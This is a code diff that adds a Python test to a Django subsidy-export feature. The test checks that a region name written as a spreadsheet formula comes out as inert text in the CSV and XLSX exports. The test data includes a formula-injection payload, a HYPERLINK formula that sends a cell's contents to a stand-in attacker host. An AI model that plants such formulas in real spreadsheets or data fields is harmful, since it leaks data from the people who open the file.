@@ -136,3 +136,23 @@ def test_overview_and_exports_show_the_reviewer_and_the_total_score():
     assert beoordeeld["Totaalscore"] == str(3 * criteria.count())
     concept = dict(zip(kop, rijen["Techregio Concept"], strict=True))
     assert concept["Beoordelaar"] == "" and concept["Totaalscore"] == ""
+
+
+def test_a_formula_in_a_region_name_stays_text_in_both_exports():
+    """A region named like a spreadsheet formula that would send the next cell to another
+    site: in the CSV and the XLSX it is text with an apostrophe in front, never a formula;
+    the amounts next to it are still numbers."""
+    naam = '=HYPERLINK("http://aanvaller.example/?lek="&F2,"Klik hier")'
+    compleet_dossier(naam=naam)
+    client = beoordelaar()
+
+    tekst = client.get(reverse("subsidie:ministerie_csv")).content.decode("utf-8-sig")
+    rijen = list(csv.reader(io.StringIO(tekst), delimiter=";"))
+    assert rijen[1][0] == "'" + naam
+    assert rijen[1][5] == "299000,00"
+
+    blad = load_workbook(io.BytesIO(client.get(reverse("subsidie:ministerie_xlsx")).content)).active
+    assert (blad["A2"].value, blad["A2"].data_type) == ("'" + naam, "s")
+    assert all(cel.data_type != "f" for rij in blad.iter_rows() for cel in rij)
+    assert blad["F2"].data_type == "n"
+    assert Decimal(str(blad["F2"].value)) == Decimal("299000")
